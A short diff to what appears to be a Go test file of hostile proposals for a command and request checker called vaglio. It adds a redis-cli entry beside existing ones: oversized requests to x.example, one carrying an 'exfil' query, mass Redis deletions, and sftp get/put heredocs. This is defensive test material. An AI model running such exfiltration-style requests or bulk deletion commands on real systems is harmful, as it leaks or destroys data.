@@ -45,6 +45,7 @@ func hostile() map[string]vaglio.Proposal {
 		"URL":           call("http_request", A{"method": "POST", "url": "https://x.example/" + strings.Repeat("a/", 500_000)}),
 		"Query":         call("http_request", A{"method": "GET", "url": "https://x.example/?exfil=" + strings.Repeat("a=b&", 250_000)}),
 		"Redis":         command("redis-cli <<'E'\n" + strings.Repeat("del a\n", 150_000) + "E"),
+		"RedisItself":   command("redis-cli <<< '-x'"), // A line without a command reads the lines no second time.
 		"Sftp":          command("sftp h <<'E'\n" + strings.Repeat("get a\n", 150_000) + "put b\nE"),
 	}
 }
